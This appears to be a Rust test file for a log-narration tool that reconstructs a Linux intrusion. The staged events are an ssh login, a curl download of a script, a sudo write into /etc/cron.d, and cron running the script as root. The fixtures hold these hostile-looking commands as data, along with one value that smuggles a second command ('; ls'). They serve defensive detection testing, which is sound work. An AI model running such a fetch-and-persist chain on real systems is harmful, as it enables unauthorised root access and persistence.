//! Linux: in by ssh, a download, a denied write, sudo, a cron table, and its runs.

use crate::scene::{Scene, check, entry, job, shown};
use watchbell_jobs::Kind;
use watchbell_model::Outcome;
use watchbell_story::{Chapter, Strength};

const EXACT: Option<Strength> = Some(Strength::Exact);
const STRONG: Option<Strength> = Some(Strength::Strong);

/// The audit records name no host, syslog's lines do.
pub fn intrusion() -> Scene {
    let made = job(Kind::Cron, "health", "/tmp/health.sh", None);
    let exec = |pid: u32, parent: u32, user: &str, image: &str, command: &str| {
        format!("user={user} | login_user=alice | logon=3 | pid={pid} | parent_pid={parent} | image={image} | command={command}")
    };
    Scene::new()
        .fact("sshd", "sshd", 9_387, "vm", "user=alice | address=10.0.0.5 | pid=225 | service=sshd")
        .fact("start", "logon", 9_395, "", "user=alice | login_user=alice | logon=3 | address=10.0.0.5 | pid=225 | terminal=ssh")
        .fact("bash0", "process", 9_439, "", &exec(232, 231, "alice", "/usr/bin/bash", "-bash"))
        .fact("bash", "process", 9_440, "", &exec(232, 231, "alice", "/usr/bin/bash", "bash"))
        .fact("id", "process", 9_443, "", &exec(234, 232, "alice", "/usr/bin/id", "id"))
        .fact("curl", "process", 9_447, "", &exec(238, 232, "alice", "/usr/bin/curl", "curl http://10.0.0.8/health.sh -o /tmp/health.sh"))
        .fact("reach", "network", 9_463, "", "user=alice | login_user=alice | logon=3 | pid=238 | image=/usr/bin/curl | address=10.0.0.8")
        .fact("drop", "file", 9_471, "", "user=alice | login_user=alice | logon=3 | pid=238 | parent_pid=232 | image=/usr/bin/curl | file=/tmp/health.sh")
        .fact("denied", "job", 9_475, "", "user=alice | login_user=alice | logon=3 | pid=232 | parent_pid=231 | image=/usr/bin/bash | file=/etc/cron.d/health")
        .failed()
        .fact("sudo", "process", 9_476, "", &exec(241, 232, "alice", "/usr/bin/sudo", "sudo sh -c 'echo x > /etc/cron.d/health'"))
        .fact(
            "become",
            "switch",
            9_479,
            "",
            "user=alice | login_user=alice | target_user=root | logon=3 | pid=241 | image=/usr/bin/sudo | command=sh -c echo x",
        )
        .fact("sh", "process", 9_480, "", &exec(242, 241, "root", "/usr/bin/dash", "sh -c 'echo x > /etc/cron.d/health'"))
        .fact("made", "job", 9_483, "", "user=root | login_user=alice | logon=3 | pid=242 | parent_pid=241 | image=/usr/bin/dash | file=/etc/cron.d/health")
        .with_job(&made)
        .fact("reload", "job", 61_256, "vm", "user=root | file=/etc/cron.d/health | job_name=health")
        .fact("run", "run", 61_260, "vm", "user=root | pid=247 | action=/tmp/health.sh")
        .fact(
            "child",
            "process",
            61_261,
            "",
            "user=root | login_user=root | logon=4 | pid=247 | parent_pid=246 | image=/usr/bin/dash | command=/bin/sh -c /tmp/health.sh",
        )
        .fact(
            "script",
            "process",
            61_262,
            "",
            "user=root | login_user=root | logon=4 | pid=247 | parent_pid=246 | image=/tmp/health.sh | command=/tmp/health.sh",
        )
        .fact("grandchild", "process", 61_263, "", "user=root | login_user=root | logon=4 | pid=248 | parent_pid=247 | image=/usr/bin/id | command=id")
        .fact("noise", "process", 61_263, "", "user=root | login_user=root | logon=5 | pid=249 | parent_pid=247 | image=/usr/bin/ls | command=ls")
        .fact("root_job", "process", 9_481, "", "user=root | logon=4294967295 | pid=300 | parent_pid=241 | image=/usr/bin/ps | command=ps")
        .alert("made", "root", Some(made))
        .by("alice")
}

impl Scene {
    fn by(mut self, login_user: &str) -> Self {
        self.subject.login_user = Some(login_user.to_owned());
        self
    }
}

#[test]
fn an_intrusion_is_told_from_ssh_to_the_run() {
    let told = intrusion().tell();
    check(
        &told,
        &[
            ("start", EXACT),
            ("sshd", STRONG),
            ("bash0", EXACT),
            ("bash", EXACT),
            ("curl", EXACT),
            ("reach", EXACT),
            ("drop", EXACT),
            ("denied", EXACT),
            ("sudo", EXACT),
            ("become", EXACT),
            ("sh", EXACT),
            ("made", EXACT),
            ("reload", STRONG),
            ("run", STRONG),
            ("child", STRONG),
            ("script", STRONG),
            ("grandchild", STRONG),
            ("id", None),
            ("noise", None),
            ("root_job", None),
        ],
    );
    assert_eq!(entry(&told, "curl").expect("curl").chapter, Chapter::Fetched);
    assert_eq!(entry(&told, "run").expect("run").chapter, Chapter::After);
    assert_eq!(
        told.story.summary,
        [
            "alice logged in by ssh from 10.0.0.5 at 10:00:09 UTC, fetched http://10.0.0.8/health.sh with curl and became root with sudo.",
            "A job was created.",
            "It ran at 10:01:01 UTC."
        ],
        "{}",
        shown(&told)
    );
}

#[test]
fn a_denied_write_is_tried_and_failed() {
    let told = intrusion().alert("denied", "alice", None).tell();
    check(&told, &[("denied", EXACT), ("start", EXACT), ("bash", EXACT), ("curl", EXACT)]);
    assert_eq!(told.story.summary[1], "A job was created: tried and failed.");
    assert_eq!(entry(&told, "denied").expect("own").outcome, Outcome::Failed);
}

#[test]
fn the_next_run_is_told_in_the_callers_words() {
    let mut scene = intrusion();
    scene.subject.next = Some("It runs next at 10:02 UTC, in 41 s, as root.".to_owned());
    assert_eq!(scene.tell().story.summary[2], "It ran at 10:01:01 UTC; it runs next at 10:02 UTC, in 41 s, as root.");
}

#[test]
fn audit_sessions_and_pids_end_with_the_boot() {
    let scene = intrusion().fact("boot", "boot", 9_446, "", "");
    check(&scene.tell(), &[("start", None), ("bash", None), ("curl", EXACT)]);
}

#[test]
fn repeated_runs_are_first_last_and_how_many() {
    let mut scene = intrusion();
    for minute in 2..9 {
        scene = scene.fact(&format!("run{minute}"), "run", minute * 60_000 + 1_000, "vm", "user=root | pid=900 | action=/tmp/health.sh");
    }
    let told = scene.tell();
    check(&told, &[("run", STRONG), ("run8", STRONG)]);
    assert!(entry(&told, "run4").is_none());
    assert_eq!(entry(&told, "run8").expect("the last").text, "cron ran /tmp/health.sh as root (the last of 8 times)");
    assert_eq!(told.story.left_out, 0);
    assert_eq!(told.story.summary[2], "It ran several times, first at 10:01:01 UTC, last at 10:08:01 UTC.");
}

#[test]
fn who_logged_in_is_named_though_root_did_it() {
    let mut scene = Scene::new()
        .fact("made", "job", 0, "", "user=root | login_user=alice | logon=3 | pid=9 | image=/usr/bin/bash | file=/etc/cron.d/x")
        .alert("made", "root", None);
    scene.subject.login_user = Some("alice".to_owned());
    assert_eq!(scene.tell().story.summary, ["alice acted as root.", "A job was created."]);
}

#[test]
fn the_deed_itself_names_who_logged_in() {
    let mut scene = Scene::new()
        .fact("made", "job", 0, "", "user=root | login_user=alice | logon=3 | pid=9 | image=/usr/bin/bash | file=/etc/cron.d/x")
        .alert("made", "root", None)
        .by("alice");
    scene.subject.summary = "root put /etc/cron.d/x among the cron tables of ? with bash".to_owned();
    assert_eq!(scene.tell().story.summary, ["alice, as root, put /etc/cron.d/x among the cron tables with bash."]);
}

#[test]
fn syslog_names_crontab_by_its_pid_and_the_audit_log_knows_who_ran_it() {
    let mut scene = Scene::new()
        .fact("exec", "process", -3, "", "user=root | login_user=alice | logon=3 | pid=9095 | image=/usr/bin/crontab | command=crontab -")
        .fact("other", "process", -3, "", "user=root | login_user=eve | logon=4 | pid=9096 | image=/usr/bin/crontab | command=crontab -")
        .fact("line", "job", 0, "vm", "user=root | target_user=root | pid=9095")
        .alert("line", "root", None);
    scene.subject.summary = "root changed the cron table root on vm".to_owned();
    let told = scene.tell();
    check(&told, &[("exec", STRONG), ("other", None)]);
    assert_eq!(told.story.summary, ["alice, as root, changed the cron table root on vm."]);
}

#[test]
fn an_address_is_told_without_the_switch_before_it() {
    let scene = Scene::new()
        .fact("shell", "process", 0, "", "user=alice | login_user=alice | logon=3 | pid=8 | image=/usr/bin/bash | command=bash")
        .fact(
            "fetch",
            "process",
            10,
            "",
            "user=alice | login_user=alice | logon=3 | pid=9 | parent_pid=8 | image=/usr/bin/curl | command=curl --url=https://example.test/x; ls",
        )
        .fact("made", "job", 20, "", "user=alice | login_user=alice | logon=3 | pid=8 | image=/usr/bin/bash | file=/etc/cron.d/x")
        .alert("made", "alice", None);
    assert_eq!(scene.tell().story.summary[0], "alice fetched https://example.test/x with curl.");
}

#[test]
fn an_account_that_is_only_numbered_is_called_by_the_name_its_logon_tells() {
    let mut scene = Scene::new()
        .fact("logon", "logon", -9_000, "", "user=alice | login_user=1001 | logon=3 | address=10.0.0.5 | image=/usr/sbin/sshd")
        .fact("made", "job", 0, "", "user=root | login_user=1001 | logon=3 | pid=9 | image=/usr/bin/bash | file=/etc/cron.d/x")
        .alert("made", "root", None)
        .by("1001");
    scene.subject.summary = "root put /etc/cron.d/x among the cron tables".to_owned();
    assert_eq!(scene.tell().story.summary[1], "alice, as root, put /etc/cron.d/x among the cron tables.");
}

/// Only syslog: somebody comes in by ssh and changes a table.
fn syslog() -> Scene {
    Scene::new()
        .fact("old", "sshd", -9_000_000, "vm", "user=alice | address=10.9.9.9 | port=4001 | pid=11 | service=sshd")
        .fact("old_end", "logoff", -8_000_000, "vm", "user=alice | address=10.9.9.9 | port=4001 | pid=12")
        .fact("in", "sshd", -60_000, "vm", "user=alice | address=10.0.0.5 | port=4002 | pid=21 | service=sshd")
        .fact("made", "job", 0, "vm", "user=alice | target_user=alice | pid=31")
        .alert("made", "alice", None)
}

#[test]
fn the_only_open_login_of_an_account_is_its_way_in() {
    let told = syslog().tell();
    check(&told, &[("in", STRONG), ("old", None)]);
    assert_eq!(told.story.summary[0], "alice logged in to vm by ssh from 10.0.0.5 at 09:59:00 UTC.");
    let another = "user=alice | address=10.0.0.6 | port=4003 | pid=22 | service=sshd";
    check(&syslog().fact("second", "sshd", -50_000, "vm", another).tell(), &[("in", None), ("second", None)]);
    check(&syslog().fact("out", "logoff", -30_000, "vm", "user=alice | address=10.0.0.5 | port=4002 | pid=23").tell(), &[("in", None)]);
    check(&syslog().fact("became", "switch", -40_000, "vm", "user=eve | target_user=alice | pid=25").tell(), &[("in", None)]);
    check(&syslog().fact("elsewhere", "sshd", -50_000, "vm2", another).tell(), &[("in", STRONG), ("elsewhere", None)]);
}

#[test]
fn a_login_of_hours_ago_counts_only_if_its_end_is_told() {
    let mut scene = syslog();
    scene.facts[2].time = Some(crate::scene::at(-7_200_000));
    check(&scene.tell(), &[("in", None)]);
    check(&scene.fact("out", "logoff", 30_000, "vm", "user=alice | address=10.0.0.5 | port=4002 | pid=23").tell(), &[("in", STRONG)]);
}

#[test]
fn one_use_of_sudo_is_one_entry() {
    let sudo = |more: &str| format!("user=alice | login_user=alice | logon=3 | pid=241 | image=/usr/bin/sudo | {more}");
    let line = "user=alice | target_user=root | command=/usr/bin/sh -c 'echo x > /etc/cron.d/health'";
    let mut scene = intrusion();
    scene.facts.retain(|fact| fact.id != crate::scene::id("become"));
    let scene = scene.fact("session", "switch", 9_478, "", &sudo("target_user=root")).fact("line", "sudo_line", 9_480, "vm", line);
    let told = scene.fact("command", "switch", 9_479, "", &sudo("command=sh -c echo x > /etc/cron.d/health")).tell();
    let of_sudo: Vec<&str> = told.story.entries.iter().map(|entry| &*entry.text).filter(|text| text.contains("used sudo")).collect();
    assert_eq!(of_sudo, ["alice used sudo: sh -c echo x > /etc/cron.d/health"], "{}", shown(&told));
}
